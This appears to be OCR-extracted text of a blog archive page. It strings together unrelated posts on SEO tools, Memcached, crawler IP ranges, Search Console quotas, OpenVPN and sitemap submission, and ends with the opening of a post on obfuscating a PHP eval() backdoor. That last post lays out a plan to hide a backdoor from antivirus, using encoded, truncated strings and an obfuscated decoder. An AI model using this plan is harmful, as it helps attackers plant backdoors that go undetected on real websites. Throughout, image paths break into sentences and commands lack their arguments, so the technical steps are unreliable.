TOP SEO Domain Metric Checker Website | 100% Free

Scan your website & get a roadmap for SEO strategy, backlinks, UX, semantics & content. A free list of tailored improvements for your website. Get it in 4 minutes! 32+ trillion backlinks. Analyze your on-page SEO in one click, get customized suggestions and improve your. rankings. Audit your site today to improve engagement for your audiences!

Link Building is King. Harness that Social Media Power. Add an RSS Feed Subscription Box. Don’t Shy from Blog Commenting. Guest Posting is Still Hot. Forums Posting Is a Thing. Build Trust.

On-page SEO focuses on optimizing parts of your website that are within your control, while offpage SEO focuses on increasing theauthority of your domain. Try to use my domain to check the metric you may compare it with yours.

Free SEO Domain Checker List:

Installing and Configuring Memcached with PHP8.2

Memcached is a high-performance, distributed memory caching system designed to speed up dynamic web applications by alleviating database load. It is widely used to enhance the performance of web-based applications by caching data and objects in RAM to reduce the number of times an external data source (such as a database or API) must be read. This article will guide you through the process of installing Memcached on your server and integrating it with PHP.

Read also How to Install Memcached in CodeIgniter Framework

After installing php8.2 with nginx you might install the main memcached and the memcached for PHP.sudo apt-get update
sudo apt-get install memcached
sudo apt-get install php8.2-memcached

Conclusion: You have successfully installed and configured Memcached with PHP. Memcached is a powerful tool for improving the performance of your PHP applications. It’s easy to set up and integrate, and it can significantly reduce the load on your database by caching frequently accessed data.

Additional Tips:

  • Regularly monitor your Memcached usage.
  • Secure your Memcached server, especially if it’s on a public network.
  • Keep your software updated for security and performance improvements.

Top Crawlers Bots IP Ranges For Search Engine Optimization

In the world of Search Engine Optimization (SEO), understanding the behavior of search engine crawlers is crucial. These crawlers, also known as bots or spiders, are automated programs used by search engines like Google, Bing, and others to scan and index the content of websites. By identifying the IP ranges of these crawlers, webmasters can optimize their websites more effectively. This article delves into the top crawlers, their IP ranges, and how this knowledge benefits SEO.

Google IP Ranges
Google Bots
Google Special Crawlers
Google User Triggered
Global and regional external IP address rangesfor customers’ Google Cloud resources
BingBot IP Ranges
DuckDuckGo Bots
Ahref Crawler IP Ranges
Yandex IP Ranges
Facebook IP Ranges

All Crawlers User Agents
Google Crawler Indexing
Yandex Robots
Moz RogerBot
Verify Bingbot

Cloud IPsReference Link
IP Ranges v4
IP Ranges V6
API IP Ranges
Yandex Cloud IPs

Understanding Search Engine Crawlers

What Are Crawlers?

Crawlers are automated programs that visit websites to read and index their content. They follow links from one page to another, thereby creating a map of the web that search engines use to provide relevant search results.

Importance in SEO

Recognizing crawlers is essential in SEO as it ensures that your website is indexed correctly. Proper indexing increases the chances of your website appearing in search results, thereby drivingorganic traffic.

Top Search Engine Crawlers and Their IP Ranges


  • Primary Role: Indexing websites for Google Search.
  • IP Range: Googlebot IPs typically fall within the range owned by Google. However, due to the vast number of IP addresses Google owns, it’s more efficient to verify Googlebot by using the reverse DNS lookup method.


  • Primary Role: Crawling for Microsoft’s Bing search engine.
  • IP Range: Bingbot also uses a range of IP addresses. Similar to Googlebot, it’s advisable to use reverse DNS lookups to confirm the legitimacy of Bingbot.


  • Primary Role: Indexing for the Baidu search engine, predominantly used in China.
  • IP Range: Baiduspider’s IP ranges are published by Baidu and can be found in their webmaster tools documentation.

Yandex Bot• Primary Role: Crawling for Russia’s Yandex search engine.
  • IP Range: Yandex provides a list of IP addresses for its crawlers, which can be found in their official documentation.

Why Knowing IP Ranges Matters

  1. Security: Distinguishing between legitimate crawlers and malicious bots is crucial for website security.
  2. Accurate Analytics: Identifying crawler traffic helps in obtaining more accurate analytics data, as it separates human traffic from bot traffic.
  3. SEO Optimization: Understanding crawler behavior helps in optimizing websites for better indexing and ranking.
  4. Resource Management: It helps in managing server resources effectively, as crawlers can consume significant bandwidth.

Best Practices for Managing Crawler Traffic

  • Robots.txt File: Use this to guide crawlers on which parts of your site to scan and which to ignore.
  • Monitoring Server Logs: Regularly check server logs for crawler activities to ensure that your site is being indexed properly.
  • Updating Sitemaps: Keep your sitemaps updated to aid crawlers in efficient website navigation.


Recognizing and understanding the IP ranges of top search engine crawlers is a vital aspect of SEO. Ithelps in distinguishing between genuine search engine bots and potential security threats, enhances website performance, and contributes to more effective SEO strategies. As search engines evolve, staying informed about crawler activities and best practices is essential for maintaining and improving your website’s search engine visibility.

Quota Exceed While Request Indexing to Google Search Console

Search Analytics

Search Analytics quota falls in two types: load limits and QPS limits. The “quota exceeded” error is the same for all quota exceeded events.

Load quota

Load represents the internal resources consumed by a query. Most users will not exceed load limits, but if you do, you will receive a “quota exceeded” error message. The Search Analytics resource enforces the following load limits:

  • Short-term load quota: Short-term quota is measured in 10 minute chunks. To fix:
    • If you exceed your quota, wait 15 minutes and try again. If you still exceed quota, you are exceeding long-term quota.
    • If you are exceeding short-term quota only, spread out your queries throughout the day.
  • Long-term load quota: Long-term quota is measured in 1 day chunks. If you exceed quota when running only a single query inside a 10 minute period, you are exceeding your long-term quota. To fix:
    • Queries are expensive when you group and/or filter by either page or query string.Queries grouped/filtered by page AND query string are the most expensive. To reduce your load for these queries, remove the grouping and/or filtering for the page and/or query string.
    • Query load increases with the date range queried. So queries with a six month range are much more expensive than a query with a one day range.
    • Avoid requerying the same data (for example, querying all data for last month over and over).

QPS quota

The Search Analytics resource enforces the following QPS (queries per second) QPM (queries per minute) and QPD (queries per day) limits:

  • Per-site quota (calls querying the same site):
    • 1,200 QPM
  • Per-user quota (calls made by the same user):
    • 1,200 QPM
  • Per-project quota (calls made using the same Developer Console key):
    • 30,000,000 QPD
    • 40,000 QPM


  • User A can make up to 1,200 QPM combined to her 3 websites.
  • Users A and B can make up to 1,200 QPM combined to their one website.

URL inspection

  • Per-site quota (calls querying the same site):
    • 2000 QPD
    • 600 QPM
  • Per-project quota (calls made using the same Developer Console key):
    • 10,000,000 QPD• 15,000 QPM

All other resources

  • Per-user limit (calls made by the same user):
    • 20 QPS
    • 200 QPM• Per-project limit (calls made using the same Developer Console key):
    • 100,000,000 QPD


Set Up OpenVPN Server In 3 Minutes

sudo apt update
sudo apt upgrade

ip a
ip a show eth0

dig +short
dig TXT +short | awk -F'"' '{ print $2}'
wget -O
chmod +x

sudo ./

Sample session from AWS/Lightsail where my cloud server is behind NAT:

Sample session from Linode/DO server where cloud server has Direct Public

To avoid problem always choose DNS as or Google DNS. Those are fast DNS server and reached from anywhere on the Internet.

Submitting your sitemap to search engines via HTTP GOOGLE AND BING

Submitting your sitemap to search engines via HTTP can be done using a straightforward method. Here are the general steps to submit your sitemap using an HTTP request:

  1. Create or Generate Your Sitemap:
    • If you haven’t already, create a valid XML sitemap for your website. This sitemap should list all the URLs you want search engines to index.2. Host the Sitemap on Your Web Server:
    • Upload your sitemap file to your web server or hosting account. You should be able to access it via a URL, such as
  3. Use a Web Browser or Command-Line Tool:
    • You can use a web browser or a command-line tool like curl or wget to send an HTTP request to search engines. Below are examples of how to do this:
    Using a Web Browser:
    • Open your web browser and visit the respective URL to submit your sitemap to Google or Bing:
      • For Google: Bing:
      Replace with the actual URL of your sitemap.
    Using Command-Line Tools (e.g., curl):
    • Open your command-line interface and run one of the following commands to submit your sitemap to Google:bashCopy codecurl -H "Content-Type: text/plain" --data "" ""
    • Or submit your sitemap to Bing:bashCopy codecurl -H "Content-Type: text/plain" --data "" ""
  4. Check the Response:
    • After submitting the HTTP request, you should receive a response from the search engine. This response will typically indicate whether the sitemap submission was successful.
  5. Monitor Search Console:
    • Although submitting via HTTP can notify search engines of your sitemap, it’s a good practice to monitor your Google Search Console and Bing Webmaster Tools accounts. These tools provide more insights into the indexing status of your website and any potential issues.

Submitting your sitemap via HTTP is a convenient and straightforward way to inform search engines about your website’s structure and content updates. However, keep in mind that while this method helps with initial discovery, it does not replace the need for regular monitoring and management of your website’s SEO through official search engine webmaster tools.

PHP Shell Eval() BackdoorObfuscation


When working with any programing or scripting language you might ask your self is this language could be used for “hacking”, this question in the beginning could be very superficial but let’s take it real. I do love PHP a lot to be honest, I’m using it in everything, in web, cryptography whenI want to perform cryptographical tasks and even in backdoors, Its very clear language and its purpose and more in very good way. I asked my self what If we can do something new with this great language, let’s obfuscate a backdoor to avoid detection by AV and at the same time let’s make this code behaves like an ordinary code and from here the idea came.

Walk through the standards

Before starting any thing new you should put your standards and policies first to see how you should build your new theory, for example I put the following standards for me to follow and care about:

  • Payload delivery
  • Symantec and Signature based detections
  • Readability of the code
  • Command execution workflow
  • Firewalls

And more but these are my major standards I want to care about them while crafting this backdoor.

Planning for the theory

Now after we knew what we going to do and what standards we should follow we came to the planningsection, I wanted to make something new to the security appliances, something isn’t commonly used against these appliances, so, the chances of detection will be decreased. In my plan I decided to follow the following rules:

Using multiple foreign languages which rarely used to write our backdoor.

Every variable with certain languages should have its own reference variable which basically written in different variable, this step will confuse the code more and more.

Variables sequences should be varied, so, debugging or deobfuscating the code now should be harder.

System commands and PHP codes will be used in this mission should be encoded, truncated and every truncated part should be in a single variable, each single variable should has its own reference variable and this reference variable should follow the standards mentioned before, in addition the sequence of truncated encoded string should be varied in sorting, but when decoding it using decoder function it will be concatenated in the right sequence with the reference variable used and we can make a mix of reference and standard variables as we will see later in this article.

The decoder function also should be obfuscated by truncating it following the previous rules, then using it as a variable to decode the encodedstring.

